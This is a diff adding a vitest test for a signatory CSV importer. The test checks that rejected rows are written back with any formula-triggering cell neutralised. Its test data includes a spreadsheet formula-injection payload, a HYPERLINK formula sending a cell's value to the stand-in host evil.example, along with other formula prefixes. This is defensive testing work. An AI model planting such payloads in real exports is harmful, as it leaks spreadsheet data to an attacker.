@@ -4,6 +4,7 @@ import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { importSignatories, ImportError } from '../../infra/admin/importer.ts';
 import { ceremonyBody, startTestApi, type TestApi } from '../support/api.ts';
@@ -64,6 +65,23 @@ describe('import command', () => {
     const again = await importSignatories({ file, ceremonyId, url: api.url, key: api.keys['34.02']!, batchSize: 7, progress: quiet });
     expect(again).toMatchObject({ rows: 33, accepted: 0, duplicates: 30, rejected: 3 });
     expect((await compliance()).totals.signatories).toBe(before + 30);
+  });
+
+  it('writes a rejects file where no cell can run as a spreadsheet formula, and quoting round-trips', async () => {
+    const ceremonyId = await newCeremony();
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"klik, ya")', '+6281234567890', '-1+1', '@SUM(A1:A9)', '\t=1+1'];
+    const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
+    const lines = ['NIP,Nama,Jabatan,OPD,Jenis Pegawai', ...formulas.map((cell, i) => `${quote(cell)},Pegawai ${i},Staf,disdik,PNS`)];
+    const file = join(dir, 'formulas.csv');
+    writeFileSync(file, `${lines.join('\n')}\n`);
+    const summary = await importSignatories({ file, ceremonyId, url: api.url, key: api.keys['34.02']!, progress: quiet });
+    expect(summary.rejected).toBe(formulas.length);
+    const rows: string[][] = parse(readFileSync(summary.rejectFile, 'utf8'));
+    expect(rows[0]).toEqual(['line', 'nip', 'reason']);
+    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Each NIP comes back whole (commas and quotes kept; the reader trims spaces and tabs), behind the quote that makes it text.
+    expect(rows.slice(1).map((row) => row[1])).toEqual(formulas.map((cell) => `'${cell.trim()}`));
+    expect(rows.slice(1).map((row) => row[0])).toEqual(['2', '3', '4', '5', '6']);
   });
 
   it('retries throttled batches, and resumes after an interruption without sending done batches again', async () => {
